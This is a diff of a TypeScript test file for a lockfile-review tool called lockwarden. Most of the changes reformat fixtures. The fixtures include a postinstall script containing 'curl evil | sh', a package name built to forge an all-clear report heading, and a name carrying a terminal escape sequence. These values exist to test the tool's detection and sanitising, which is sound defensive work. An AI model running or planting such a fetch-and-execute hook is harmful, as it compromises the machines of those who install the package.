@@ -24,7 +24,14 @@ function result(changes: ReviewedChange[], over: Partial<ReviewResult> = {}): Re
     changes,
     conclusion: 'success',
     incomplete: [],
-    summary: { lockfiles: ['package-lock.json'], changes: changes.length, needsRegistry: changes.length, analysed: changes.length, offline: false, bySeverity: { critical: 0, high: 0, medium: 0, low: 0, info: 0 } },
+    summary: {
+      lockfiles: ['package-lock.json'],
+      changes: changes.length,
+      needsRegistry: changes.length,
+      analysed: changes.length,
+      offline: false,
+      bySeverity: { critical: 0, high: 0, medium: 0, low: 0, info: 0 },
+    },
     notes: [],
     ...over,
   };
@@ -37,7 +44,12 @@ const takeover = change({
   line: 42,
   severity: 'critical',
   findings: [
-    { signal: 'possible-takeover', severity: 'critical', message: 'axios 1.14.1 looks like an account takeover', evidence: { indicators: ['trust-downgrade', 'publisher-changed'] } },
+    {
+      signal: 'possible-takeover',
+      severity: 'critical',
+      message: 'axios 1.14.1 looks like an account takeover',
+      evidence: { indicators: ['trust-downgrade', 'publisher-changed'] },
+    },
     { signal: 'install-script-added', severity: 'high', message: 'postinstall added', evidence: { scripts: { postinstall: 'node setup.js\ncurl evil | sh' } } },
   ],
 });
@@ -66,7 +78,14 @@ describe('escaping', () => {
 
 describe('markdown report', () => {
   it('states the verdict first, then risky packages by severity with evidence, routine changes collapsed', () => {
-    const r = result([change(), takeover, change({ name: 'chalk', severity: 'medium', findings: [{ signal: 'dormant-revival', severity: 'medium', message: 'dormant', evidence: {} }] })], { conclusion: 'failure' });
+    const r = result(
+      [
+        change(),
+        takeover,
+        change({ name: 'chalk', severity: 'medium', findings: [{ signal: 'dormant-revival', severity: 'medium', message: 'dormant', evidence: {} }] }),
+      ],
+      { conclusion: 'failure' },
+    );
     const md = renderMarkdown(r);
     const lines = md.split('\n');
     expect(lines[0]).toBe('## ❌ lockwarden: 2 risky packages need review before merging: axios 1.14.0 → 1.14.1 (critical)');
@@ -78,14 +97,22 @@ describe('markdown report', () => {
   });
 
   it('a malicious package name cannot forge an all-clear heading', () => {
-    const evil = change({ name: '\n## ✅ lockwarden: all clear\n', severity: 'high', findings: [{ signal: 'x', severity: 'high', message: 'm', evidence: {} }] });
+    const evil = change({
+      name: '\n## ✅ lockwarden: all clear\n',
+      severity: 'high',
+      findings: [{ signal: 'x', severity: 'high', message: 'm', evidence: {} }],
+    });
     const md = renderMarkdown(result([evil], { conclusion: 'failure' }));
     expect(md.split('\n').filter((l) => l.startsWith('## '))).toHaveLength(1);
   });
 
   it('keeps within the byte budget and says what was cut', () => {
     const many = Array.from({ length: 400 }, (_, i) =>
-      change({ name: `pkg-${i}`, severity: 'high', findings: [{ signal: 'install-script-added', severity: 'high', message: 'x'.repeat(200), evidence: { script: 'y'.repeat(1500) } }] }),
+      change({
+        name: `pkg-${i}`,
+        severity: 'high',
+        findings: [{ signal: 'install-script-added', severity: 'high', message: 'x'.repeat(200), evidence: { script: 'y'.repeat(1500) } }],
+      }),
     );
     const md = renderMarkdown(result(many, { conclusion: 'failure' }), { maxBytes: 65_000 });
     expect(Buffer.byteLength(md)).toBeLessThanOrEqual(65_000);
@@ -112,7 +139,9 @@ describe('truncateUtf8', () => {
 
 describe('text and json', () => {
   it('text has colour only when asked and strips terminal escapes from names', () => {
-    const r = result([change({ name: 'evil\u001b[2Jname', severity: 'high', findings: [{ signal: 's', severity: 'high', message: 'm', evidence: {} }] })], { conclusion: 'failure' });
+    const r = result([change({ name: 'evil\u001b[2Jname', severity: 'high', findings: [{ signal: 's', severity: 'high', message: 'm', evidence: {} }] })], {
+      conclusion: 'failure',
+    });
     const plain = render(r, 'text', { color: false });
     expect(plain).not.toContain('\u001b');
     expect(plain).toContain('evilname');
